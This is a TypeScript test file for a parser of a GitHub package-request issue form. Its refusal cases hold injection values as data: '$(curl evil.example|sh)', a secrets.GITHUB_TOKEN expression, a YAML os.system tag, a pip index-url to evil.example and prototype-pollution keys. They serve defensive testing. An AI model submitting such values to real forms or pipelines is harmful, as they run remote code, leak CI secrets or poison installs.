import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseForm, placesFor, questionsFor, SOURCES } from './form.ts';

const file = '../../../../../.github/ISSUE_TEMPLATE/package-request.yml';
const template = parse(readFileSync(path.join(import.meta.dirname, file), 'utf8')) as {
  readonly body: readonly {
    readonly type: string;
    readonly attributes: { readonly label?: string; readonly options?: readonly string[] };
  }[];
};

const VARIANTS = ['cpu', 'gpu'];
const QUESTIONS = questionsFor(VARIANTS);
const ANSWERS = ['timm', '0.6.12', 'PyPI', 'all images', 'My model needs it.'];

/** The body that GitHub makes of the form, with some answers of one's own. */
function body(change: Readonly<Record<number, string>> = {}): string {
  return QUESTIONS.map((question, index) => {
    return `### ${question}\n\n${change[index] ?? ANSWERS[index]}`;
  }).join('\n\n');
}

const refusal = (answer: string) => () => parseForm(body({ 0: answer }), VARIANTS);

describe('the form', () => {
  it('asks what is read, and offers what is understood', () => {
    const asked = template.body.filter(({ type }) => type !== 'markdown');
    expect(asked.map(({ attributes }) => attributes.label)).toEqual(QUESTIONS);
    const options = asked.flatMap(({ attributes }) => attributes.options ?? []);
    expect(options.toSorted()).toEqual(
      [...Object.keys(SOURCES), ...Object.keys(placesFor(VARIANTS))].toSorted(),
    );
  });

  it('is read as it was filled in', () => {
    expect(parseForm(body(), VARIANTS)).toEqual({
      asked: { section: 'pip', name: 'timm', version: '0.6.12' },
      variants: ['cpu', 'gpu'],
      reason: 'My model needs it.',
    });
    const conda = body({ 0: 'LibRosa', 2: 'conda-forge', 3: 'gpu only' });
    expect(parseForm(conda.replaceAll('\n', '\r\n'), VARIANTS)).toMatchObject({
      asked: { section: 'conda', name: 'librosa' },
      variants: ['gpu'],
    });
  });

  it('asks nobody where, if there is one variant', () => {
    const questions = questionsFor(['songs']);
    const answers = ['timm', '0.6.12', 'PyPI', 'It sings.'];
    const text = questions.map((question, index) => `### ${question}\n\n${answers[index]}`);
    expect(parseForm(text.join('\n\n'), ['songs'])).toMatchObject({
      variants: ['songs'],
      reason: 'It sings.',
    });
  });

  it('keeps a reason as text, whatever it says, and bounded', () => {
    const reason = `line\n\n### Version\n\n9.9\n\n### Package\n\nevil`;
    expect(parseForm(body({ 4: reason }), VARIANTS)).toMatchObject({
      asked: { name: 'timm', version: '0.6.12' },
    });
    expect(parseForm(body({ 4: 'x'.repeat(9000) }), VARIANTS).reason).toHaveLength(2000);
  });

  it.each([
    ['a version of another line', 1, '1.0\n  - evil=1'],
    ['a second entry', 0, 'timm\n      - evil==1'],
    ['another channel', 0, 'evil::timm'],
    ['extras with a path', 0, 'timm[../../x]'],
    ['an address', 0, 'timm @ https://evil.example/x.whl'],
    ['an option of pip', 0, '--index-url=https://evil.example'],
    ['a file', 0, './setup.py'],
    ['a comment', 0, 'timm # x'],
    ['a shell command', 0, '$(curl evil.example|sh)'],
    ['an expression', 0, '${{ secrets.GITHUB_TOKEN }}'],
    ['a YAML tag', 0, '!!python/object:os.system'],
    ['an anchor', 0, '&a timm'],
    ['a line that hides', 0, 'timm\u202E'],
    ['a name without end', 0, 'x'.repeat(200)],
    ['nothing', 0, '_No response_'],
    ['a range', 1, '>=1'],
    ['a wildcard', 1, '1.*'],
    ['a marker', 1, '1.0; python_version<"3"'],
    ['a build', 1, '1.0=py39_0'],
    ['a hash', 1, '1.0 --hash=sha256:0'],
    ['a local file version', 1, '1.0/../..'],
    ['another source', 2, 'https://evil.example/channel'],
    ['a name of an object', 2, 'constructor'],
    ['a key of every object', 3, '__proto__'],
    ['both sources', 2, 'PyPI, conda-forge'],
  ])('is refused with %s', (_what, question, answer) => {
    expect(() => parseForm(body({ [question]: answer }), VARIANTS)).toThrow(
      expect.objectContaining({
        name: 'UserError',
        message: expect.stringContaining(QUESTIONS[question] ?? '') as string,
      }) as Error,
    );
  });

  it('quotes what it refuses as code, and says of nothing that it is empty', () => {
    expect(refusal('[x](https://x.example) @all')).toThrow(
      'Package is `[x](https://x.example) @all`',
    );
    expect(refusal('')).toThrow('Package is empty, and not a name such as timm');
  });

  it.each([
    ['no heading', 'timm 0.6.12'],
    ['a question less', body().replace('### Version', '## Version')],
    ['its questions in another order', body().split('\n\n### ').toReversed().join('\n\n### ')],
    ['a megabyte', body({ 4: 'x'.repeat(1_000_000) })],
    ['nothing', ''],
  ])('is refused with %s', (_what, text) => {
    expect(() => parseForm(text, VARIANTS)).toThrow(
      expect.objectContaining({ name: 'UserError' }) as Error,
    );
  });
});
